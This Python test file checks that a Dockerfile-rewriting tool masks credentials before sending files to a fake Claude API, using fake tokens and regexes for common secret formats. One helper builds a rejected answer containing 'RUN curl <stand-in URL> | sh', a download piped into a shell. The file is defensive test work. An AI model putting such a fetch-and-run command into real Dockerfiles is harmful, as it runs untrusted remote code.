"""Secrets: what reaches the (fake) Messages API, byte for byte.

ARG/ENV/LABEL values that look like credentials, URLs with a user and password, and
tokens anywhere in the file are masked before the request leaves, on the first request
and on every retry (the problems sent back with a rejected answer are built from the
restored text, so they are masked again); the API key travels only as a header. The
editor and CLI ends (stderr, window/logMessage, window/showMessage) are checked in
``test_claude_end_to_end.py``.
"""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from slimstage.dockerfile import parse
from slimstage.rewrite.conversion import Job, convert
from slimstage.rewrite.redact import redact
from slimstage.rewrite.result import Converted
from slimstage.settings import ClaudeSettings, Settings
from tests.fakes.fake_anthropic import ErrorReply, FakeAnthropic

from .claude_cases import API_KEY, ORIGINAL, SECRETS, VALID, answer
from .fuzz import fuzz
from .strategies import dockerfiles
from .tally import tally


def placeholders_of(text: str) -> list[str]:
    red = redact(parse(text))
    return [p for p, _ in red.pairs]


def candidate_with_secrets(dockerfile: str, placeholders: list[str]) -> str:
    """An answer that puts every placeholder into a new download piped into a shell: rejected,
    and the problem that goes back to the model quotes the line with the values restored."""
    url = "https://h/" + "/".join(placeholders)
    return dockerfile.replace("FROM node:22-slim AS runtime\n", f"FROM node:22-slim AS runtime\nRUN curl {url} | sh\n").replace(
        "ENV NODE_ENV=production\n", "ENV NODE_ENV=production DB_PASSWORD=" + placeholders[0] + "\n"
    )


def assert_nothing_secret_in(fake: FakeAnthropic) -> None:
    assert fake.requests, "nothing reached the fake"
    for i, r in enumerate(fake.requests):
        raw = r.raw.decode("utf-8", "replace")
        for name, value in SECRETS.items():
            assert value not in raw, f"request {i + 1} carries the {name}"
        assert API_KEY not in raw, f"request {i + 1} carries the API key in its body"
        assert API_KEY not in r.query and r.path.startswith("/v1/")


async def test_nothing_secret_reaches_claude_on_any_attempt(fake_claude: FakeAnthropic) -> None:
    keys = placeholders_of(ORIGINAL)
    assert len(keys) >= 6
    bad = candidate_with_secrets(VALID, keys)
    # A good answer keeps the original's ARG, ENV and LABEL lines, placeholders and all.
    masked = redact(parse(ORIGINAL)).text.splitlines()
    keep = "".join(line + "\n" for line in masked if line.startswith(("ENV", "LABEL")) and "NODE_ENV" not in line)
    arg = next(line for line in masked if line.startswith("ARG"))
    good = VALID.replace("FROM node:22 AS deps\n", f"FROM node:22 AS deps\n{arg}\n").replace("USER node\n", "USER node\n" + keep)
    fake_claude.script(ErrorReply(500, retry_after=0), answer(bad), answer(bad), answer(good))
    settings = Settings(claude=ClaudeSettings(base_url=fake_claude.url, max_retries=2, timeout=10))
    outcome = await convert(Job(ORIGINAL, settings, "claude", api_key=API_KEY))
    tally("claude secrets")
    assert_nothing_secret_in(fake_claude)
    assert len(fake_claude.message_requests) == 4
    assert isinstance(outcome, Converted), outcome
    assert SECRETS["npm token"] in outcome.text  # the user's file gets its own value back
    for note in outcome.notes + (outcome.summary,) + tuple(s.explanation for s in outcome.stages):
        assert not any(v in note for v in SECRETS.values()), note


async def test_findings_and_context_names_are_masked_too(fake_claude: FakeAnthropic, tmp_path) -> None:
    from slimstage.analysis.context import read_context

    token = SECRETS["github token"]
    (tmp_path / "Dockerfile").write_text(ORIGINAL)
    (tmp_path / f"{token}.txt").write_text("x")  # a file named like a secret
    (tmp_path / ".dockerignore").write_text(f"# {token}\nnode_modules\n")
    fake_claude.script(answer())
    settings = Settings(claude=ClaudeSettings(base_url=fake_claude.url, max_retries=0, timeout=10))
    await convert(Job(ORIGINAL, settings, "claude", context=read_context(tmp_path / "Dockerfile"), api_key=API_KEY))
    tally("claude secrets")
    assert_nothing_secret_in(fake_claude)


# -- the redaction itself, on generated files ---------------------------------------------------------

TOKENS = st.one_of(  # recognisable wherever they are
    st.sampled_from([SECRETS[k] for k in ("npm token", "github token", "aws key id", "jwt")]),
    st.from_regex(r"ghp_[A-Za-z0-9]{36}", fullmatch=True),
    st.from_regex(r"AKIA[0-9A-Z]{16}", fullmatch=True),
    st.from_regex(r"sk-ant-[A-Za-z0-9_-]{24,40}", fullmatch=True),
    st.from_regex(r"xoxb-[0-9]{10}-[A-Za-z0-9]{16}", fullmatch=True),
    st.from_regex(r"glpat-[A-Za-z0-9_-]{20}", fullmatch=True),
)
OPAQUE = st.sampled_from([SECRETS["password"], SECRETS["url password"], "correct-horse-battery-staple", "Pa55w0rd!Pa55w0rd"])
BY_NAME = (  # where the name or the shape says "credential", so any value is one
    "ARG API_TOKEN={v}",
    "ARG NPM_TOKEN=\"{v}\"",
    "ENV SECRET_KEY={v} OTHER=1",
    "ENV DATABASE_PASSWORD '{v}'",
    "ENV AWS_SECRET_ACCESS_KEY={v}",
    "RUN git clone https://user:{v}@github.com/org/repo.git",
    "RUN curl -H 'Authorization: Bearer {v}' https://api.example.com",
    "ENV URL=postgres://app:{v}@db:5432/app",
)
WHERE = (
    "ARG API_TOKEN={v}",
    "ARG NPM_TOKEN=\"{v}\"",
    "ENV SECRET_KEY={v} OTHER=1",
    "ENV DATABASE_PASSWORD '{v}'",
    "ENV AWS_SECRET_ACCESS_KEY={v}",
    "LABEL token={v}",
    "RUN git clone https://user:{v}@github.com/org/repo.git",
    "RUN curl -H 'Authorization: Bearer {v}' https://api.example.com",
    "RUN echo {v} > /root/.npmrc",
    "ENV URL=postgres://app:{v}@db:5432/app",
)


@st.composite
def files_with_secrets(draw):
    text = draw(dockerfiles(max_stages=2, max_body=5))
    lines = text.split("\n")
    secrets = []
    for _ in range(draw(st.integers(1, 3))):
        if draw(st.booleans()):  # a token is one anywhere, even inside another instruction's continuation
            value, where = draw(TOKENS), draw(st.sampled_from(WHERE))
            at = draw(st.integers(1, max(1, len(lines) - 1)))
        else:  # an opaque value is one by its name: as an instruction of its own
            value, where = draw(OPAQUE), draw(st.sampled_from(BY_NAME))
            first_from = next(i for i, line in enumerate(lines) if line.startswith("FROM"))
            at = draw(st.sampled_from((first_from + 1, len(lines))))
        secrets.append(value)
        lines.insert(at, where.format(v=value))
    return "\n".join(lines), secrets


@fuzz(150)
@given(files_with_secrets())
def test_redaction_masks_every_planted_secret_and_restores_the_file(case) -> None:
    text, secrets = case
    tally("redaction")
    red = redact(parse(text))
    for value in secrets:
        assert value not in red.text, f"{value!r} survived redaction:\n{red.text}"
    assert not red.leaked(red.text)
    assert red.restore(red.text) == parse(text).text
    assert value not in repr(red)
